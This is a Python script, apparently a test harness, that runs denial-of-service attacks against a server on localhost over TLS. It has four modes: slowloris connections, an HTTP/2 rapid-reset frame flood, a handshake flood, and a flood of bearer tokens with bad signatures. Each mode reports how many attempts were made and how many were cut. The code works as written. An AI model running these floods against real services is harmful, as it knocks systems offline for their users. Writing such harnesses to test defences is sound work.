"""What an attacker does, from one address, until it is ended. Prints "attacking" once it is at full strength, and at its end what it did.

    attack.py bad-tokens|slowloris|rapid-reset|handshakes PORT CA TOKENS CONNECTIONS"""
import os
import resource
import selectors
import signal
import socket
import ssl
import sys
import threading
import time

counts = {"tried": 0, "cut": 0}
over = threading.Event()


def context_of(ca, alpn):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols([alpn])
    return context


def dial(port, context):
    plain = socket.create_connection(("127.0.0.1", port), 30)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return context.wrap_socket(plain, server_hostname="localhost")


def bad_tokens(port, context, tokens, number):
    """Well-formed tokens whose signature is wrong, never the same twice in a row: each one answered, then the next."""
    tls, at = None, number * 997
    while not over.is_set():
        try:
            tls = tls or dial(port, context)
            at += 1
            tls.sendall(b"GET /api HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer %s\r\n\r\n" % tokens[at % len(tokens)])
            answer = tls.recv(4096)
            counts["tried"] += 1
            if not answer:
                raise OSError
        except OSError:
            counts["cut"] += 1
            tls = None


# PREFACE, SETTINGS; then HEADERS of a GET (static table, literals without indexing) and RST_STREAM at once.
def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def handshakes(port, context, tokens, number):
    while not over.is_set():
        try:
            dial(port, context).close()
            counts["tried"] += 1
        except OSError:
            counts["cut"] += 1


HEAD = b"\x82\x87\x84\x01\x09localhost"


def rapid_reset(port, context, tokens, number):
    while not over.is_set():
        try:
            tls = dial(port, context)
            out = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")]
            for stream in range(1, 2000, 2):
                out.append(frame(1, 5, stream, HEAD) + frame(3, 0, stream, b"\0\0\0\x08"))
            tls.sendall(b"".join(out))
            counts["tried"] += 1000
            while tls.recv(65536):
                pass
            counts["cut"] += 1
            tls.close()
        except OSError:
            counts["cut"] += 1


def slowloris(port, context, n):
    """n connections with TLS, each of which sends a byte of its head now and then; what is cut is opened again."""
    selector, started = selectors.DefaultSelector(), False
    alive, due = [], 0.0
    while not over.is_set():
        while len(alive) < n and not over.is_set():
            try:
                tls = dial(port, context)
                tls.setblocking(False)
                tls.send(b"GET /api HTTP/1.1\r\nX: ")
                selector.register(tls, selectors.EVENT_READ)
                alive.append(tls)
                counts["tried"] += 1
            except OSError:
                counts["cut"] += 1
            if started and time.monotonic() > due:
                break
        if not started and len(alive) >= n:
            started = True
            print("attacking", flush=True)
        if time.monotonic() > due:
            due = time.monotonic() + 1
            for tls in alive:
                try:
                    tls.send(b"x")
                except OSError:
                    pass
        for key, _ in selector.select(0.05):
            tls = key.fileobj
            try:
                ended = not tls.recv(4096)
            except ssl.SSLWantReadError:
                continue
            except OSError:
                ended = True
            if ended:
                selector.unregister(tls)
                alive.remove(tls)
                tls.close()
                counts["cut"] += 1


def main():
    kind, port, ca, tokens, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
    signal.signal(signal.SIGTERM, lambda *a: over.set())
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with open(tokens, "rb") as f:
        tokens = f.read().split()
    context = context_of(ca, "h2" if kind == "rapid-reset" else "http/1.1")
    if kind == "slowloris":
        slowloris(port, context, n)
    else:
        one = {"bad-tokens": bad_tokens, "rapid-reset": rapid_reset, "handshakes": handshakes}[kind]
        for i in range(n):
            threading.Thread(target=one, args=(port, context, tokens, i), daemon=True).start()
        while counts["tried"] < n and not over.wait(0.01):
            pass
        print("attacking", flush=True)
        over.wait()
    print(f"{counts['tried']} tried, {counts['cut']} cut", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
